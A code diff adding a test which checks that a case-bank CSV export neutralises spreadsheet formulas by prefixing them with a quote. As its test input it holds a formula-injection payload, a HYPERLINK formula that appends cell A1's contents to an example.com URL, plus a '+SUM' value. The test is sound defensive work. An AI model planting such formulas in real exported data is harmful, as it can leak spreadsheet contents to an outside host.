@@ -140,3 +140,16 @@ def test_an_export_with_a_bad_filter_is_a_400_not_everything(client, cases):
     response = client.get("/en/casebank/export.csv", {"status": "party"})
     assert response.status_code == 400
     assert "status" in response.content.decode()
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(client, organisation):
+    ExperimentFactory(
+        owner=organisation,
+        status="running",
+        title='=HYPERLINK("https://example.com/?"&A1;"Avaa")',
+        summary="+SUM(1;2)",
+    )
+    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode()
+    row = next(csv.DictReader(io.StringIO(content)))
+    assert row["title"] == '\'=HYPERLINK("https://example.com/?"&A1;"Avaa")'
+    assert row["summary"] == "'+SUM(1;2)"
